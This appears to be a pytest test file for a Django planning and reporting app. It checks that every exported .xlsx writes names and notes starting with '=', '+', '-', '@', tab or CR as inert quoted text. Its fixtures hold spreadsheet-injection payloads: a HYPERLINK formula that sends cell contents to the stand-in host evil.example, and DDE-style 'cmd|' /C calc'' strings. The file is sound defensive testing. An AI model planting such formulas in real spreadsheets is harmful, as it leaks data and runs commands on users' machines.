"""Formula injection (issue 17, point 4): names and notes that start with "=", "+",
"-", "@", a tab or a CR come out of EVERY exported .xlsx as text (quote prefix,
string type), never as formulas; the only formulas are the system's own totals and
percentages."""

from __future__ import annotations

import io
import re

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from ketnap.documents.spreadsheet import DANGEROUS_PREFIXES, workbook_bytes, write_formula
from ketnap.monitoring.models import PeriodicReport, ReportingRound
from ketnap.orgs.models import Organization
from ketnap.plans.models import Allocation, Plan
from tests.conftest import client_for, org

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
OWN_FORMULA = re.compile(r"^=(SUM|IF)\([A-Z0-9:,\"=() N/]*\)$")


@pytest.mark.parametrize("prefix", DANGEROUS_PREFIXES)
def test_every_dangerous_text_is_written_inert(prefix: str) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws["A1"] = f"{prefix}cmd|' /C calc'!A0"
    ws["A2"], ws["A3"] = 1, 2
    write_formula(ws, 4, 1, "=SUM(A2:A3)", 3)
    for data_only in (False, True):
        sheet = load_workbook(io.BytesIO(workbook_bytes(wb)), data_only=data_only).active
        assert sheet is not None
        assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith(prefix.strip() or prefix)
        assert sheet["A1"].quotePrefix
    formulas = load_workbook(io.BytesIO(workbook_bytes(wb))).active
    assert formulas is not None and formulas["A4"].value == "=SUM(A2:A3)"
    assert load_workbook(io.BytesIO(workbook_bytes(wb)), data_only=True).active["A4"].value == 3  # type: ignore[index]


def _download(user: str, url: str) -> bytes:
    response = client_for(user).get(url)
    assert response.status_code == 200, url
    return b"".join(response.streaming_content) if response.streaming else response.content


def _check(data: bytes, *, expect_payload: bool) -> None:
    book = load_workbook(io.BytesIO(data))
    seen = False
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    assert OWN_FORMULA.match(str(value)), (ws.title, cell.coordinate, value)
                elif isinstance(value, str) and value.startswith(DANGEROUS_PREFIXES):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, value)
                if isinstance(value, str) and "evil.example" in value:
                    seen = True
                    assert cell.data_type == "s"
    assert seen or not expect_payload


@pytest.mark.django_db
def test_all_exports_write_hostile_names_and_notes_as_text() -> None:
    commune = org("Đảng bộ xã Cao Minh")
    cell = org("Chi bộ Hưng Thịnh")
    Organization.objects.filter(pk=cell.pk).update(name=PAYLOAD)
    plan = Plan.objects.get(organization=commune, year=2026)
    Allocation.objects.filter(revision__plan=plan).update(note="@SUM(1+1)*cmd|' /C calc'!A0")
    q1 = ReportingRound.objects.get(organization=commune, quarter=1, is_demo=True)
    report = PeriodicReport.objects.get(round=q1, organization=commune)
    figures = dict(report.figures)
    figures["parts"] = [{**figures["parts"][0], "name": PAYLOAD}, *figures["parts"][1:]]
    PeriodicReport.objects.filter(pk=report.pk).update(figures=figures)
    board = "bxd.caominh"
    downloads = [
        ("tinh.thainguyen", reverse("plans:export_xlsx", args=[plan.pk]), True),
        (board, reverse("monitoring:report_xlsx", args=[report.pk]), True),
        (board, reverse("monitoring:dashboard_xlsx", args=[commune.pk]) + "?on=2026-09-30", True),
        (board, reverse("monitoring:statistics", args=[commune.pk]) + "?on=2026-11-20&format=xlsx", False),
        (board, reverse("monitoring:evaluation", args=[commune.pk]) + "?on=2026-11-20&format=xlsx", True),
        (board, reverse("pipeline:import_sample"), False),
    ]
    for user, url, expect in downloads:
        _check(_download(user, url), expect_payload=expect)
